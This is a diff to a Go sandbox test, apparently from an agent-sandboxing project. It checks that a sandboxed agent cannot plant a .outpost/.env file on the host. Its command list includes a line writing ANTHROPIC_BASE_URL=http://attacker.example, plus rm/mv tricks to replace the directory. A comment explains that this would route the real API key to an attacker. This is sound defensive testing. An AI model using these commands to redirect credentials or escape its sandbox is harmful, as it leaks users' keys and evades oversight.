@@ -3,9 +3,12 @@ package docker_test
 import (
 	"context"
 	"errors"
+	"fmt"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -13,6 +16,7 @@ import (
 
 	"github.com/outposthq/outpost/sandbox/driver"
 
+	"github.com/outposthq/outpost"
 	"github.com/outposthq/outpost/internal/tarsafe"
 	"github.com/outposthq/outpost/providers/docker"
 	"github.com/outposthq/outpost/providers/docker/dockertest"
@@ -172,6 +176,55 @@ func TestWorkspaceBind(t *testing.T) {
 		if got := sh(t, l, "id -u"); got != "1000" {
 			t.Errorf("user %q, want the directory's owner 1000", got)
 		}
+	}
+}
+
+// TestWorkspaceBindNoPrivateDir: with no .outpost in the directory, the
+// sandbox still cannot make one: an agent must not plant .outpost/.env (a
+// base URL of its choosing, which the next turn's gateway would send the
+// real key to; issue 43). The empty mount point on the host is the
+// directory owner's.
+func TestWorkspaceBindNoPrivateDir(t *testing.T) {
+	dockertest.Require(t, dockertest.Busybox)
+	host := workdir(t)
+	write(t, host, "in.txt", "from host\n")
+	p := dockertest.Provider(t, dockertest.Busybox, func(o *docker.Options) { o.Workspace = docker.Bind })
+	l := lease(t, p, driver.Options{Workdir: host})
+	for _, cmd := range []string{
+		"echo ANTHROPIC_BASE_URL=http://attacker.example > .outpost/.env",
+		"mkdir -p .outpost/x",
+		"rm -rf .outpost && mkdir .outpost && echo x > .outpost/.env",
+		"mv .outpost .o2 && mkdir .outpost && echo x > .outpost/.env",
+	} {
+		shStatus(t, l, cmd)
+	}
+	if _, err := os.Stat(filepath.Join(host, ".outpost/.env")); !errors.Is(err, fs.ErrNotExist) {
+		t.Errorf("the sandbox planted .outpost/.env on the host: %v", err)
+	}
+	entries, err := os.ReadDir(filepath.Join(host, ".outpost"))
+	if err != nil || len(entries) != 0 {
+		t.Errorf("host .outpost: %v, %v; want an empty directory", entries, err)
+	}
+	if got := sh(t, l, "cat in.txt"); got != "from host" {
+		t.Errorf("in the sandbox: %q", got)
+	}
+	if os.Getuid() == 0 {
+		fi, err := os.Stat(filepath.Join(host, ".outpost"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if st := fi.Sys().(*syscall.Stat_t); st.Uid != 1000 {
+			t.Errorf(".outpost owned by %d, want the directory's owner 1000", st.Uid)
+		}
+	}
+	// A .outpost that is not a directory cannot be mounted over: the
+	// lease is refused before a container is made.
+	linked := workdir(t)
+	if err := os.Symlink(t.TempDir(), filepath.Join(linked, ".outpost")); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := sandbox.Acquire(t.Context(), p, driver.Options{Workdir: linked}); outpost.CodeOf(err) != outpost.Configuration || !strings.Contains(fmt.Sprint(err), "not a directory") {
+		t.Errorf("Acquire with .outpost a symbolic link: %v, want a configuration error", err)
 	}
 }
 
